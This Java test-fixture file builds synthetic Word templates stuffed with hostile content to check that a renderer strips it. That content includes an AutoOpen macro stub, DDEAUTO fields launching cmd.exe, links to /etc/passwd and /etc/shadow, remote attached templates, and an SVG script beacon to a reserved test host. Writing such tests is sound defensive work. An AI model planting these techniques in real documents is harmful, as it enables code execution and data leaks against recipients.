package org.ratsinfo.render.docx;

import static org.ratsinfo.render.docx.PackageEdit.MS;
import static org.ratsinfo.render.docx.PackageEdit.OD;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.UnaryOperator;

/**
 * Corporate templates with what a city's template may carry from many hands and no document made from
 * it may: external relationships and active content. Each is the placeholder template of {@link
 * Templates} (letterhead line above the excerpt, greeting below, logo in the page header) with one kind
 * added, made here; nothing is copied from a real file. Each case names the strings that must not
 * appear in any part of a document made from it, and the texts of the template that must still show.
 */
final class HostileTemplates {

  /** Where the remote things live: a reserved name that never resolves. */
  static final String REMOTE = "http://ratsinfo-test.invalid/";

  private static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  private static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  private static final String A = "http://schemas.openxmlformats.org/drawingml/2006/main";
  private static final String PIC = "http://schemas.openxmlformats.org/drawingml/2006/picture";
  private static final String WP = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing";
  private static final String VML = "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\"";
  private static final String DOCUMENT = "word/document.xml";
  private static final String HEADER = "word/header1.xml";
  /** The end of the paragraph above the placeholder, and of the one below it. */
  private static final String ABOVE_END = Templates.ABOVE + "</w:t></w:r>";
  private static final String BELOW_END = Templates.BELOW + "</w:t></w:r>";
  /** The end of the header's paragraph (after the logo and the text). */
  private static final String HEADER_END = Templates.HEADER_TEXT + "</w:t></w:r>";
  /** Bytes that start like a compound file (as VBA projects and OLE objects are), with a macro in them. */
  private static final byte[] COMPOUND_FILE = concat(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0,
      (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1}, "Sub AutoOpen(): Shell \"calc.exe\": End Sub");

  /**
   * One kind of hostile content.
   *
   * @param name a file-name friendly name
   * @param template the template's bytes
   * @param traces strings of the hostile content, none of which may be in any part of the output
   * @param kept texts of the template that must still be in the output (and in LibreOffice's PDF)
   */
  record Case(String name, byte[] template, List<String> traces, List<String> kept) {
    @Override
    public String toString() {
      return name;
    }
  }

  private HostileTemplates() {}

  /** Every case that is stripped (macros are refused: {@link #macros}). */
  static List<Case> stripped() {
    return List.of(attachedTemplate(), mailMerge(), linkedImages(), hyperlinks(), complexFields(),
        simpleFields(), activeX(), oleObjects(), customUi(), altChunks(), svgAndThumbnail(), danglingReferences());
  }

  private static byte[] edit(UnaryOperator<PackageEdit> edits) {
    return edits.apply(new PackageEdit(Templates.make(false, true, true))).zip();
  }

  private static String settings(String content) {
    return "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:settings xmlns:w=\"" + W
        + "\" xmlns:r=\"" + R + "\">" + content + "</w:settings>";
  }

  /** The settings attach a template on a web server, and restyle from it on opening. */
  static Case attachedTemplate() {
    return new Case("attached-template", edit(p -> p
        .put("word/settings.xml", settings("<w:attachedTemplate r:id=\"rIdTpl\"/><w:linkStyles/>"))
        .relationship("word/settings.xml", "rIdTpl", OD + "attachedTemplate", REMOTE + "vorlagen/Briefbogen.dotm", true)),
        List.of("ratsinfo-test.invalid", "attachedTemplate", "linkStyles", "Briefbogen"),
        List.of(Templates.ABOVE, Templates.BELOW, Templates.HEADER_TEXT));
  }

  /** The settings make the document a form letter on an ODBC data source and a file on a server. */
  static Case mailMerge() {
    return new Case("mail-merge", edit(p -> p
        .put("word/settings.xml", settings("<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:linkToQuery/>"
            + "<w:dataType w:val=\"native\"/><w:connectString w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;"
            + "Data Source=\\\\fileserver\\adressen.xlsx\"/><w:query w:val=\"SELECT * FROM `Tabelle1$`\"/>"
            + "<w:dataSource r:id=\"rIdMm\"/><w:headerSource r:id=\"rIdMh\"/></w:mailMerge>"))
        .relationship("word/settings.xml", "rIdMm", OD + "mailMergeSource", "file:///srv/daten/adressen.xlsx", true)
        .relationship("word/settings.xml", "rIdMh", OD + "mailMergeHeaderSource", REMOTE + "kopf.xlsx", true)),
        List.of("ratsinfo-test.invalid", "mailMerge", "adressen.xlsx", "fileserver", "Tabelle1"),
        List.of(Templates.ABOVE, Templates.BELOW, Templates.HEADER_TEXT));
  }

  private static String inlinePicture(int id, String blip) {
    return "<w:r><w:drawing><wp:inline xmlns:wp=\"" + WP + "\"><wp:extent cx=\"609600\" cy=\"203200\"/>"
        + "<wp:docPr id=\"" + id + "\" name=\"Bild " + id + "\"/><a:graphic xmlns:a=\"" + A + "\">"
        + "<a:graphicData uri=\"" + PIC + "\"><pic:pic xmlns:pic=\"" + PIC + "\"><pic:nvPicPr>"
        + "<pic:cNvPr id=\"" + id + "\" name=\"Bild " + id + "\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>"
        + blip + "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x=\"0\" y=\"0\"/>"
        + "<a:ext cx=\"609600\" cy=\"203200\"/></a:xfrm><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom>"
        + "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
  }

  /**
   * The header's logo also links a remote copy; a banner and a VML crest only link remote images; a
   * VML picture of the embedded logo names a remote original in plain attributes.
   */
  static Case linkedImages() {
    return new Case("linked-images", edit(p -> p
        .replace(HEADER, "<a:blip r:embed=\"rId1\"/>", "<a:blip r:embed=\"rId1\" r:link=\"rIdLogoLink\"/>")
        .relationship(HEADER, "rIdLogoLink", OD + "image", REMOTE + "logo-aktuell.png", true)
        .insertAfter(HEADER, HEADER_END, inlinePicture(7, "<a:blip xmlns:a=\"" + A + "\" r:link=\"rIdBanner\"/>")
            + "<w:r><w:pict><v:shape " + VML + " id=\"Wappen\" style=\"width:30pt;height:30pt\">"
            + "<v:imagedata r:id=\"rIdCrest\" o:title=\"Wappen\"/></v:shape></w:pict></w:r>"
            + "<w:r><w:pict><v:shape " + VML + " id=\"LogoKlein\" style=\"width:24pt;height:8pt\" href=\""
            + REMOTE + "start\"><v:imagedata r:id=\"rId1\" o:href=\"" + REMOTE + "logo-original.png\" src=\""
            + REMOTE + "logo-original.png\"/></v:shape></w:pict></w:r>")
        .relationship(HEADER, "rIdBanner", OD + "image", REMOTE + "banner.png", true)
        .relationship(HEADER, "rIdCrest", OD + "image", REMOTE + "wappen.png", true)),
        List.of("ratsinfo-test.invalid", "logo-aktuell", "banner.png", "wappen.png", "logo-original"),
        List.of(Templates.HEADER_TEXT, Templates.ABOVE));
  }

  /**
   * Hyperlinks in the header (to {@code file:///etc/passwd}, one without a target mode), on the
   * header's logo and in the body; a link to a bookmark, which may stay.
   */
  static Case hyperlinks() {
    return new Case("hyperlinks", edit(p -> p
        .insertAfter(HEADER, HEADER_END, "<w:hyperlink r:id=\"rIdPasswd\"><w:r><w:t xml:space=\"preserve\">"
            + " Datenschutz</w:t></w:r></w:hyperlink><w:hyperlink r:id=\"rIdShadow\"><w:r>"
            + "<w:t xml:space=\"preserve\"> Impressum</w:t></w:r></w:hyperlink>")
        .relationship(HEADER, "rIdPasswd", OD + "hyperlink", "file:///etc/passwd", true)
        .relationship(HEADER, "rIdShadow", OD + "hyperlink", "file:///etc/shadow", false)
        .replace(HEADER, "descr=\"logo.png\"/>", "descr=\"logo.png\"><a:hlinkClick xmlns:a=\"" + A
            + "\" r:id=\"rIdHome\"/></wp:docPr>")
        .relationship(HEADER, "rIdHome", OD + "hyperlink", REMOTE + "startseite", true)
        .insertAfter(DOCUMENT, ABOVE_END, "<w:hyperlink r:id=\"rIdWeb\" w:history=\"1\"><w:r>"
            + "<w:t xml:space=\"preserve\"> Webseite der Stadt</w:t></w:r></w:hyperlink>")
        .relationship(DOCUMENT, "rIdWeb", OD + "hyperlink", REMOTE + "rathaus", true)
        .insertAfter(DOCUMENT, BELOW_END, "<w:hyperlink w:anchor=\"Anfang\"><w:r><w:t xml:space=\"preserve\">"
            + " nach oben</w:t></w:r></w:hyperlink>")),
        List.of("ratsinfo-test.invalid", "/etc/passwd", "/etc/shadow", "startseite", "rathaus"),
        List.of(Templates.HEADER_TEXT, "Datenschutz", "Impressum", "Webseite der Stadt", "nach oben"));
  }

  private static String complex(String result, String... instruction) {
    StringBuilder sb = new StringBuilder("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
    for (String part : instruction) {
      sb.append("<w:r><w:instrText xml:space=\"preserve\">").append(part).append("</w:instrText></w:r>");
    }
    return sb.append("<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t xml:space=\"preserve\">").append(result)
        .append("</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>").toString();
  }

  /**
   * Complex fields: {@code INCLUDEPICTURE} in the header, and in the body {@code INCLUDETEXT} split over
   * two runs, {@code LINK}, {@code DDEAUTO}, {@code DDE}, {@code HYPERLINK} to a file, {@code
   * MACROBUTTON}, an {@code IF} with an {@code INCLUDETEXT} in its instruction, and a field that never
   * ends; {@code PAGE}, {@code DATE} and the {@code IF} may stay.
   */
  static Case complexFields() {
    String nested = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">IF "
        + "</w:instrText></w:r>" + complex("ja", "INCLUDETEXT \"" + REMOTE + "wahr.txt\"")
        + "<w:r><w:instrText xml:space=\"preserve\"> = \"ja\" \"Bedingung\" \"Sonst\"</w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>Bedingung</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    return new Case("complex-fields", edit(p -> p
        .insertAfter(HEADER, HEADER_END, complex("[Wappen]", " INCLUDEPICTURE \"" + REMOTE
            + "wappen.png\" \\* MERGEFORMATINET \\d ") + "<w:r><w:tab/></w:r>" + complex("1", " PAGE "))
        .insertAfter(DOCUMENT, ABOVE_END, complex(" Textbaustein", " INCLUDE", "TEXT \"" + REMOTE + "baustein.docx\" ")
            + complex(" Haushaltszahlen", " LINK Excel.Sheet.12 \"\\\\\\\\fileserver\\\\haushalt.xlsx\" \"Tabelle1!Z1S1\" \\a \\f 4 \\h ")
            + complex(" Kalkulation", " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" ")
            + complex(" Tabelle", " DDE Excel \"C:\\\\Daten\\\\geheim.xlsx\" \"Z1S1\" ")
            + complex(" Passwortdatei", " HYPERLINK \"file:///etc/passwd\" ")
            + complex(" Klicken", " MACROBUTTON AutoOpen Klicken ")
            + nested)
        .insertAfter(DOCUMENT, BELOW_END, complex(" 07.12.2026", " DATE \\@ \"dd.MM.yyyy\" ")
            + "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> INCLUDETEXT \""
            + REMOTE + "rest.txt\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
            + "<w:r><w:t xml:space=\"preserve\"> Rest</w:t></w:r>")),
        List.of("ratsinfo-test.invalid", "INCLUDE", "LINK", "DDE", "calc.exe", "fileserver", "geheim",
            "/etc/passwd", "MACROBUTTON", "HYPERLINK"),
        List.of("[Wappen]", "Textbaustein", "Haushaltszahlen", "Kalkulation", "Tabelle", "Passwortdatei",
            "Klicken", "Rest"));
  }

  private static String simple(String instruction, String result) {
    return "<w:fldSimple w:instr=\"" + instruction.replace("\"", "&quot;") + "\"><w:r><w:t xml:space=\"preserve\">"
        + result + "</w:t></w:r></w:fldSimple>";
  }

  /** The same kinds as simple fields ({@code w:fldSimple}); {@code NUMPAGES} may stay. */
  static Case simpleFields() {
    return new Case("simple-fields", edit(p -> p
        .insertAfter(HEADER, HEADER_END, simple(" INCLUDEPICTURE \"" + REMOTE + "wappen.png\" \\d ", " [Wappen]")
            + simple(" NUMPAGES ", " 1"))
        .insertAfter(DOCUMENT, ABOVE_END, simple(" INCLUDETEXT \"" + REMOTE + "baustein.docx\" ", " Textbaustein")
            + simple(" LINK Excel.Sheet.12 \"\\\\fileserver\\haushalt.xlsx\" \"Z1S1\" \\a ", " Haushaltszahlen")
            + simple(" DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" ", " Kalkulation")
            + simple(" DDE Excel \"C:\\Daten\\geheim.xlsx\" \"Z1S1\" ", " Tabelle")
            + simple(" HYPERLINK \"file:///etc/passwd\" ", " Passwortdatei")
            + simple(" import \"" + REMOTE + "bild.png\" ", " Bild"))),
        List.of("ratsinfo-test.invalid", "INCLUDE", "LINK", "DDE", "calc.exe", "fileserver", "geheim",
            "/etc/passwd", "HYPERLINK", "import &quot;"),
        List.of("[Wappen]", "Textbaustein", "Haushaltszahlen", "Kalkulation", "Tabelle", "Passwortdatei", "Bild"));
  }

  /** An ActiveX command button in the body, with its control part and binary. */
  static Case activeX() {
    return new Case("activex", edit(p -> p
        .insertAfter(DOCUMENT, ABOVE_END, "<w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"480\"><v:shape " + VML
            + " id=\"_x0000_i1025\" style=\"width:72pt;height:24pt\" o:ole=\"\"><v:imagedata r:id=\"rIdAxImg\""
            + " o:title=\"\"/></v:shape><w:control r:id=\"rIdAx\" w:name=\"CommandButton1\" w:shapeid=\"_x0000_i1025\"/>"
            + "</w:object></w:r>")
        .relationship(DOCUMENT, "rIdAx", OD + "control", "activeX/activeX1.xml", false)
        .relationship(DOCUMENT, "rIdAxImg", OD + "image", "media/image1.png", false)
        .put("word/activeX/activeX1.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>"
            + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" xmlns:r=\"" + R + "\""
            + " ax:classid=\"{D7053240-CE69-11CD-A777-00DD01143C57}\" ax:persistence=\"persistStreamInit\" r:id=\"rId1\"/>")
        .override("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
        .relationship("word/activeX/activeX1.xml", "rId1", MS + "2006/relationships/activeXControlBinary",
            "activeX1.bin", false)
        .put("word/activeX/activeX1.bin", COMPOUND_FILE)
        .defaultType("bin", "application/vnd.ms-office.activeX")),
        List.of("activeX", "CommandButton1", "D7053240", "AutoOpen", "w:control"),
        List.of(Templates.ABOVE, Templates.BELOW));
  }

  private static String oleObject(String id, String shape, String attributes) {
    return "<w:r><w:object w:dxaOrig=\"1440\" w:dyaOrig=\"480\"><v:shape " + VML + " id=\"" + shape
        + "\" style=\"width:72pt;height:24pt\" o:ole=\"\"><v:imagedata r:id=\"rIdOleImg\" o:title=\"\"/></v:shape>"
        + "<o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" " + attributes + " ShapeID=\"" + shape
        + "\" DrawAspect=\"Content\" r:id=\"" + id + "\"/></w:object></w:r>";
  }

  /** An embedded OLE package, an embedded Word document and a linked spreadsheet, each with its picture. */
  static Case oleObjects() {
    return new Case("ole-objects", edit(p -> p
        .insertAfter(DOCUMENT, ABOVE_END,
            oleObject("rIdOle", "_x0000_i1026", "Type=\"Embed\" ProgID=\"Package\" ObjectID=\"_1700000001\"")
            + oleObject("rIdPkg", "_x0000_i1027", "Type=\"Embed\" ProgID=\"Word.Document.12\" ObjectID=\"_1700000002\"")
            + oleObject("rIdLinked", "_x0000_i1028", "Type=\"Link\" ProgID=\"Excel.Sheet.12\" ObjectID=\"_1700000003\""
                + " UpdateMode=\"Always\""))
        .relationship(DOCUMENT, "rIdOleImg", OD + "image", "media/image1.png", false)
        .relationship(DOCUMENT, "rIdOle", OD + "oleObject", "embeddings/oleObject1.bin", false)
        .put("word/embeddings/oleObject1.bin", COMPOUND_FILE)
        .defaultType("bin", "application/vnd.openxmlformats-officedocument.oleObject")
        .relationship(DOCUMENT, "rIdPkg", OD + "package", "embeddings/Microsoft_Word_Document.docx", false)
        .put("word/embeddings/Microsoft_Word_Document.docx", Templates.make(false, false, true))
        .defaultType("docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
        .relationship(DOCUMENT, "rIdLinked", OD + "oleObject", "file:///C:/Daten/haushalt.xlsx", true)),
        List.of("oleObject", "OLEObject", "embeddings", "Microsoft_Word_Document", "haushalt", "_17000000",
            "AutoOpen", "wordprocessingml.document\""),
        List.of(Templates.ABOVE, Templates.BELOW));
  }

  /** A ribbon with a macro button (2006 and 2010 forms, with an icon) and key bindings to a macro. */
  static Case customUi() {
    String ribbon = "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Ribbon_Load\">"
        + "<ribbon><tabs><tab id=\"ratsinfo\" label=\"Ratsinfo\"><group id=\"makros\" label=\"Makros\">"
        + "<button id=\"start\" label=\"Start\" onAction=\"AutoOpen\" image=\"icon\"/></group></tab></tabs></ribbon></customUI>";
    return new Case("custom-ui", edit(p -> p
        .relationship("", "rIdUi14", MS + "2007/relationships/ui/extensibility", "customUI/customUI14.xml", false)
        .put("customUI/customUI14.xml", ribbon)
        .relationship("customUI/customUI14.xml", "icon", OD + "image", "images/icon.png", false)
        .put("customUI/images/icon.png", Templates.png(16, 16))
        .relationship("", "rIdUi", MS + "2006/relationships/ui/extensibility", "customUI/customUI.xml", false)
        .put("customUI/customUI.xml", ribbon.replace("2009/07/customui", "2006/01/customui"))
        .relationship(DOCUMENT, "rIdKeys", MS + "2006/relationships/keyMapCustomizations", "customizations.xml", false)
        .put("word/customizations.xml", "<wne:tcg xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\">"
            + "<wne:keymaps><wne:keymap wne:kcmPrimary=\"0441\"><wne:macro wne:macroName=\"PROJECT.MODUL1.AUTOOPEN\"/>"
            + "</wne:keymap></wne:keymaps></wne:tcg>")
        .override("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml")),
        List.of("customUI", "customui", "Ribbon_Load", "AutoOpen", "AUTOOPEN", "keyMapCustomizations", "wne:tcg"),
        List.of(Templates.ABOVE, Templates.BELOW, Templates.HEADER_TEXT));
  }

  /** Imported chunks: HTML with a tracking pixel in the body, MHTML in the header. */
  static Case altChunks() {
    return new Case("alt-chunks", edit(p -> p
        .insertAfter(DOCUMENT, ABOVE_END + "</w:p>", "<w:altChunk r:id=\"rIdChunk\"/>")
        .relationship(DOCUMENT, "rIdChunk", OD + "aFChunk", "afchunk.htm", false)
        .put("word/afchunk.htm", "<html><body><p>Eingeschleust</p><img src=\"" + REMOTE + "zaehlpixel.png\"></body></html>")
        .defaultType("htm", "text/html")
        .insertBefore(HEADER, "</w:hdr>", "<w:altChunk r:id=\"rIdHeaderChunk\"/>")
        .relationship(HEADER, "rIdHeaderChunk", OD + "aFChunk", "afchunk2.mht", false)
        .put("word/afchunk2.mht", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<img src=\"" + REMOTE
            + "kopfpixel.png\">Eingeschleust")
        .defaultType("mht", "message/rfc822")),
        List.of("ratsinfo-test.invalid", "altChunk", "afchunk", "aFChunk", "Eingeschleust", "text/html", "rfc822"),
        List.of(Templates.ABOVE, Templates.BELOW, Templates.HEADER_TEXT));
  }

  /**
   * The logo as an SVG (which may load and script) with Word's PNG fallback, and a thumbnail of the
   * template (which shows the template, not the document made from it).
   */
  static Case svgAndThumbnail() {
    return new Case("svg-and-thumbnail", edit(p -> p
        .replace(HEADER, "<a:blip r:embed=\"rId1\"/>", "<a:blip r:embed=\"rId1\"><a:extLst><a:ext"
            + " uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\"><asvg:svgBlip xmlns:asvg="
            + "\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:embed=\"rIdSvg\"/></a:ext></a:extLst>"
            + "</a:blip>")
        .relationship(HEADER, "rIdSvg", OD + "image", "media/logo.svg", false)
        .put("word/media/logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"96\" height=\"32\">"
            + "<image href=\"" + REMOTE + "logo-live.png\" width=\"96\" height=\"32\"/>"
            + "<script>fetch('" + REMOTE + "beacon')</script></svg>")
        .defaultType("svg", "image/svg+xml")
        .relationship("", "rIdThumb", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
            "docProps/thumbnail.png", false)
        .put("docProps/thumbnail.png", Templates.png(24, 32))),
        List.of("ratsinfo-test.invalid", "logo.svg", "svgBlip", "svg+xml", "thumbnail", "96DAC541"),
        List.of(Templates.ABOVE, Templates.BELOW, Templates.HEADER_TEXT));
  }

  /**
   * References to relationships the template does not have: a hyperlink, a picture, an OLE object
   * with no reference at all. Nothing that names a missing relationship may stay.
   */
  static Case danglingReferences() {
    return new Case("dangling-references", edit(p -> p
        .insertAfter(DOCUMENT, ABOVE_END, "<w:hyperlink r:id=\"rIdNirgends\"><w:r><w:t xml:space=\"preserve\">"
            + " Verweis ins Leere</w:t></w:r></w:hyperlink>" + oleObject("", "_x0000_i1030", "Type=\"Embed\""
            + " ProgID=\"Package\" ObjectID=\"_1700000009\"").replace(" r:id=\"\"", ""))
        .relationship(DOCUMENT, "rIdOleImg", OD + "image", "media/image1.png", false)
        .insertAfter(HEADER, HEADER_END, inlinePicture(8, "<a:blip xmlns:a=\"" + A + "\" r:embed=\"rIdNirgendsBild\"/>"))),
        List.of("rIdNirgends", "OLEObject", "_1700000009"),
        List.of(Templates.ABOVE, "Verweis ins Leere", Templates.HEADER_TEXT));
  }

  /** Variants of a VBA project in a package whose main part says it is a plain document. */
  enum Macros {
    /** {@code vbaProject.bin} with its relationship, content type and {@code vbaData.xml}. */
    PROJECT_WITH_DATA,
    /** Only the part, typed through a {@code Default} for {@code .bin}, reached by no relationship. */
    PART_BY_EXTENSION,
    /** Only a relationship of the VBA project's type, to a part of a harmless type. */
    RELATIONSHIP
  }

  static byte[] macros(Macros variant) {
    return edit(p -> switch (variant) {
      case PROJECT_WITH_DATA -> p
          .relationship(DOCUMENT, "rIdVba", MS + "2006/relationships/vbaProject", "vbaProject.bin", false)
          .put("word/vbaProject.bin", COMPOUND_FILE)
          .override("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
          .relationship("word/vbaProject.bin", "rId1", MS + "2006/relationships/wordVbaData", "vbaData.xml", false)
          .put("word/vbaData.xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"/>")
          .override("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml");
      case PART_BY_EXTENSION -> p
          .put("word/vbaProject.bin", COMPOUND_FILE)
          .defaultType("bin", "application/vnd.ms-word.vbaProject");
      case RELATIONSHIP -> p
          .relationship(DOCUMENT, "rIdVba", MS + "2006/relationships/vbaProject", "vbaProject.bin", false)
          .put("word/vbaProject.bin", COMPOUND_FILE)
          .defaultType("bin", "application/octet-stream");
    });
  }

  private static byte[] concat(byte[] head, String tail) {
    byte[] t = tail.getBytes(StandardCharsets.US_ASCII);
    byte[] all = new byte[head.length + t.length];
    System.arraycopy(head, 0, all, 0, head.length);
    System.arraycopy(t, 0, all, head.length, t.length);
    return all;
  }
}
